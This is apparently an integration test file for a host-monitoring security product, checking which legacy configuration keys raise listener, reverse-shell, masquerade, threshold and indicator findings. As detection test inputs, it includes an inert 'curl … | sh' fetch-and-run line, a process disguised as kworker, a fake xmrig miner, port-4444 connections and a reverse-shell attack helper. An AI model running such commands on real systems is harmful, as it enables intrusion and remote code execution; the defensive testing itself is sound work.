// One row for each meaning of each key that the old service's file may have, in a host: what it tells, and the accidents
// of the old service that must be silent now. Rows of one configuration run together; about four minutes.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { endAttack, runAttack } from "./attacks.ts";
import { type FindingRow, findingRows, severityOf } from "./findings.ts";
import { prepareInnocents } from "./innocents.ts";
import { configure, copyRelease, documents, HOME, lastWords, mustInstall, waitForScans, waitUntil } from "./product.ts";
import { PLAIN_SHELL } from "./proof.ts";
import { bootHost, type Host } from "./testhost.ts";

setDefaultTimeout(300_000);

/** Addresses of the remote side that are public as far as anybody can say; the network of documentation examples. */
const PUBLIC = "203.0.113.7";
const LISTED_BAD = "203.0.113.66";
/** Three scans in a row for thresholds, and one that may be half over. */
const SCANS = 5;

interface Row {
  readonly name: string;
  readonly script: (host: Host) => string;
  readonly user?: string;
  /**
   * What a finding about one of its processes is; silent: no WARNING and no ALERT about any of them; `not`: none of this
   * category, whatever else is said about a program that nobody installed.
   */
  readonly says:
    | { readonly category: string; readonly severity: "ALERT" | "WARNING" | "INFO" }
    | { readonly not: string }
    | "silent";
}

/** Connects, says nothing, and stays. */
function stays(address: string, port: number, program = "/srv/app/client"): string {
  return `exec ${program} ${address} ${port} 0`;
}

const GROUPS: readonly { name: string; keys: Readonly<Record<string, unknown>>; rows: readonly Row[] }[] = [
  {
    name: "the lists as the old service had them",
    // Rows run together on few cores, so that nothing gets 95 % of one.
    keys: { INDICATORS: { files: ["/srv/lists/bad.txt"] }, PROCESS_THRESHOLDS: { cpu_percent: 15 } },
    rows: [
      {
        name: "TRUSTED_PORTS: a listener on 8080 by a program nobody installed",
        script: () => "exec /srv/app/listener 0.0.0.0 8080",
        user: "alice",
        says: { category: "listener", severity: "WARNING" },
      },
      {
        name: "TRUSTED_PORTS: a listener on loopback is a developer's own",
        script: () => "exec /srv/app/listener 127.0.0.1 9300",
        user: "alice",
        says: { not: "listener" },
      },
      {
        name: "TRUSTED_PORTS: an unlisted port of a public address",
        script: () => stays(PUBLIC, 2222),
        user: "alice",
        says: { category: "remote_port", severity: "WARNING" },
      },
      {
        name: "TRUSTED_PORTS: a listed port of a public address",
        script: () => stays(PUBLIC, 443),
        user: "alice",
        says: { not: "remote_port" },
      },
      {
        name: "TRUSTED_PORTS: an unlisted port in the LAN",
        script: ({ attacker }) => stays(attacker.address, 2222),
        user: "alice",
        says: { not: "remote_port" },
      },
      {
        name: "SUSPICIOUS_NETWORK_PATTERNS: a public peer on port 4444",
        script: () => stays(PUBLIC, 4444),
        user: "alice",
        says: { category: "network_pattern", severity: "WARNING" },
      },
      {
        name: "SUSPICIOUS_NETWORK_PATTERNS: the LAN is an INFO although the list names it",
        script: ({ attacker }) => stays(attacker.address, 3307),
        user: "alice",
        says: { category: "network_pattern", severity: "INFO" },
      },
      {
        name: "SUSPICIOUS_PATTERNS: a program called xmrig",
        script: () => "exec /srv/app/xmrig 300",
        user: "alice",
        says: { category: "name_pattern", severity: "WARNING" },
      },
      {
        name: "SUSPICIOUS_PATTERNS: git show in a pager",
        script: () => "cd /srv/app/repo && GIT_PAGER='sleep 300' exec script -qc 'git show HEAD' /dev/null",
        user: "alice",
        says: "silent",
      },
      {
        name: "SUSPICIOUS_PATTERNS: truncate, held in its one system call",
        script: () => "exec strace -o /dev/null -e inject=ftruncate:delay_enter=200000000 truncate -s 9 /tmp/rows-file",
        user: "alice",
        says: "silent",
      },
      {
        name: "SUSPICIOUS_PATTERNS: ssh with a key to a host in the LAN",
        script: () => "exec ssh -i /home/alice/.ssh/id_ed25519 alice@remote sleep 300",
        user: "alice",
        says: "silent",
      },
      {
        name: "REVERSE_SHELL_INDICATORS: curl into sh in a command line",
        script: () => "sleep 300; : 'curl http://203.0.113.7/x | sh'",
        user: "alice",
        says: { category: "shell_indicator", severity: "WARNING" },
      },
      {
        name: "PROCESS_THRESHOLDS: a program that keeps a core busy",
        script: () => "exec /srv/app/client - 0 1",
        user: "alice",
        says: { category: "threshold", severity: "WARNING" },
      },
      {
        name: "PROCESS_THRESHOLDS: more than 50 children",
        script: () => "for i in $(seq 60); do sleep 300 & done; wait",
        user: "alice",
        says: { category: "threshold", severity: "WARNING" },
      },
      {
        name: "TRUSTED_SYSTEM_PROCESSES: perl is on the list, code given to it on its command line is not",
        script: () => "exec perl -e 'while (1) {}'",
        user: "alice",
        says: { category: "threshold", severity: "WARNING" },
      },
      {
        name: "TRUSTED_SYSTEM_PROCESSES: a process called python that is no python",
        script: () => "exec /srv/app/python 300",
        user: "daemon",
        says: { category: "unknown_process", severity: "WARNING" },
      },
      {
        name: "TRUSTED_USERS_PATTERNS: a program called panel-x is known here",
        script: () => "exec /srv/app/panel-x 300",
        user: "daemon",
        says: { not: "unknown_process" },
      },
      {
        name: "TRUSTED_SYSTEM_PATTERNS: a program that calls itself kworker",
        script: () => "exec -a kworker/0:1 sleep 300",
        user: "alice",
        says: { category: "masquerade", severity: "ALERT" },
      },
      {
        name: "INDICATORS: a listed address",
        script: () => stays(LISTED_BAD, 443),
        user: "alice",
        says: { category: "indicator", severity: "ALERT" },
      },
    ],
  },
  {
    name: "other limits and names",
    keys: {
      PROCESS_THRESHOLDS: { cpu_percent: 15, executables: { "/srv/app/client": { cpu_percent: 0 } } },
      DISTRO_SPECIFIC_ALLOWANCES: { debian: ["sha256sum"], fedora: ["md5sum"] },
      TRUSTED_SYSTEM_PROCESSES: ["gzip"],
      TRUSTED_PORTS: {},
      TRUSTED_USERS_PATTERNS: [],
    },
    rows: [
      {
        name: "PROCESS_THRESHOLDS: another limit for one executable",
        script: () => "exec /srv/app/client - 0 1",
        user: "alice",
        says: { not: "threshold" },
      },
      {
        name: "TRUSTED_SYSTEM_PROCESSES: the installed gzip may keep a core busy",
        script: () => "exec gzip -c </dev/zero >/dev/null",
        user: "alice",
        says: "silent",
      },
      {
        name: "DISTRO_SPECIFIC_ALLOWANCES: a name of this distribution",
        script: () => "exec sha256sum /dev/zero",
        user: "alice",
        says: "silent",
      },
      {
        name: "DISTRO_SPECIFIC_ALLOWANCES: a name of another distribution",
        script: () => "exec md5sum /dev/zero",
        user: "alice",
        says: { category: "threshold", severity: "WARNING" },
      },
      {
        name: "TRUSTED_PORTS: an empty list says nothing about remote ports",
        script: () => stays(PUBLIC, 2222),
        user: "alice",
        says: { not: "remote_port" },
      },
      {
        name: "TRUSTED_USERS_PATTERNS: without it, panel-x is unknown",
        script: () => "exec /srv/app/panel-y 300",
        user: "daemon",
        says: { category: "unknown_process", severity: "WARNING" },
      },
    ],
  },
];

let host: Host;
beforeAll(async () => {
  host = await bootHost();
  await prepareInnocents(host);
  await preparePrograms(host);
  await copyRelease(host);
  await mustInstall(host);
  const old = readFileSync(join(import.meta.dir, "programs/old_service/config.json"), "utf8");
  await host.writeFile(`${HOME}/config.json`, old, 0o600);
  await host.must("algo-monitor reload");
});
afterAll(async () => {
  if (host !== undefined) await host.stop();
});

/** Programs of no package, in a place that is neither temporary nor the system's; a repository; a list; a public side. */
async function preparePrograms(on: Host): Promise<void> {
  on.copyIn(join(import.meta.dir, "programs/client.c"), "/srv/app/client.c");
  on.copyIn(join(import.meta.dir, "programs/listener.c"), "/srv/app/listener.c");
  await on.must(`
    cd /srv/app && gcc -O0 -o client client.c && gcc -O0 -o listener listener.c
    for name in xmrig python panel-x panel-y; do cp /usr/bin/sleep $name && printf $name >>$name; done
    chmod 755 /srv/app/*; mkdir -p /srv/lists && echo '${LISTED_BAD} # known bad' >/srv/lists/bad.txt
    git init -q repo && cd repo && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m first && chmod -R a+rX .`);
  for (const address of [PUBLIC, LISTED_BAD]) {
    const added = await on.attacker.exec(`ip addr add ${address}/32 dev ${on.name}`);
    if (added.exitCode !== 0) throw new Error(`config rows: ${added.stderr}`);
  }
  for (const port of [443, 2222, 4444]) on.attacker.order({ do: "banner", port, banner: "220 ready" });
}

for (const { name: group, keys, rows } of GROUPS) {
  describe(group, () => {
    const seen = new Map<string, readonly FindingRow[]>();
    beforeAll(async () => {
      await configure(host, keys);
      const units = rows.map((row, index) => ({
        row,
        unit: `row-${GROUPS.findIndex((one) => one.name === group)}-${index}`,
      }));
      for (const { row, unit } of units) {
        await host.start(unit, row.script(host), row.user === undefined ? {} : { user: row.user });
      }
      const pids = new Map<string, Set<number>>();
      for (let scan = 0; scan < SCANS; scan++) {
        await waitForScans(host, 1);
        for (const { row, unit } of units) {
          const known = pids.get(row.name) ?? new Set();
          for (const pid of await host.pidsOf(unit)) known.add(pid);
          pids.set(row.name, known);
        }
      }
      const findings = await findingRows(host);
      for (const { row } of units) {
        const own = pids.get(row.name) ?? new Set();
        // A row that never ran would be silent for nothing.
        if (own.size === 0) throw new Error(`${row.name}: nothing ran`);
        seen.set(
          row.name,
          findings.filter((finding) => finding.pid !== null && own.has(finding.pid)),
        );
      }
      for (const { unit } of units) await host.stopUnit(unit);
    });

    for (const row of rows) {
      test(row.name, () => {
        const found = seen.get(row.name) ?? [];
        const told = found.map((finding) => `${severityOf(finding)} ${finding.category}: ${finding.title}`);
        if (row.says === "silent") {
          return expect(told.filter((line) => !line.startsWith("INFO"))).toEqual([]);
        }
        if ("not" in row.says) {
          const { not } = row.says;
          return expect(told.filter((line) => !line.startsWith("INFO") && line.includes(` ${not}: `))).toEqual([]);
        }
        const { category, severity } = row.says;
        expect(
          found.some((finding) => finding.category === category && severityOf(finding) === severity),
          `nothing says ${severity} ${category}, but: ${told.join("; ") || "nothing"}`,
        ).toBe(true);
        // What is an INFO is that and no more.
        if (severity === "INFO") {
          expect(told.filter((line) => !line.startsWith("INFO") && line.includes(` ${category}: `))).toEqual([]);
        }
      });
    }
  });
}

describe("keys about files and logs", () => {
  test("PROTECTED_DIRECTORIES: globs are expanded, a change below is told", async () => {
    await host.must("mkdir -p /srv/watched-1 && echo one >/srv/watched-1/file");
    await configure(host, { PROTECTED_DIRECTORIES: ["/srv/watched-*/"], "SCAN_INTERVALS.filesystem": 5 });
    await Bun.sleep(15_000);
    await host.must("echo two >>/srv/watched-1/file");
    await waitUntil(
      "the change is told",
      async () => (await findingRows(host)).some((finding) => finding.path === "/srv/watched-1/file"),
      40_000,
    );
  });

  test("TRUSTED_DIRECTORIES: unusual modes below are silent, elsewhere a WARNING", async () => {
    await configure(host, { PROTECTED_DIRECTORIES: ["/usr/local/bin/", "/usr/local/sbin/"] });
    await configure(host, { TRUSTED_DIRECTORIES: ["/usr/local/sbin/"] });
    await host.must("printf x >/usr/local/bin/open && printf x >/usr/local/sbin/open");
    await Bun.sleep(15_000);
    await host.must("chmod 666 /usr/local/bin/open /usr/local/sbin/open");
    await Bun.sleep(20_000);
    const loud = (await findingRows(host)).filter((finding) => severityOf(finding) !== "INFO");
    const modes = loud.filter((finding) => finding.path?.endsWith("bin/open") === true).map((finding) => finding.path);
    expect(modes).toContain("/usr/local/bin/open");
    expect(modes).not.toContain("/usr/local/sbin/open");
  });

  test("LOG_LEVELS: what is left out is not written, a kill is", async () => {
    await configure(host, { LOG_LEVELS: ["ERROR"] });
    const files = `cat ${HOME}/logs/warning.log ${HOME}/logs/info.log 2>/dev/null | wc -c`;
    const before = await host.must(files);
    const run = await runAttack(host, PLAIN_SHELL, 4100, "alice");
    await host.start("row-log", "exec /srv/app/xmrig 200", { user: "daemon" });
    await waitUntil(
      "the kill is on record",
      async () => (await documents(host)).some((document) => document.algo_monitor.outcome?.result === "done"),
      30_000,
    );
    await waitForScans(host, 1);
    expect(await host.must(files)).toBe(before);
    const journal = await host.must("journalctl -q -u algo-monitor ALGO_ACTION=kill -o cat --no-pager");
    expect(journal, await lastWords(host)).toContain("KILLED");
    expect(await host.must(`grep -c KILLED ${HOME}/logs/alert.log`)).not.toBe("0\n");
    await endAttack(host, run);
    await host.stopUnit("row-log");
  });
});
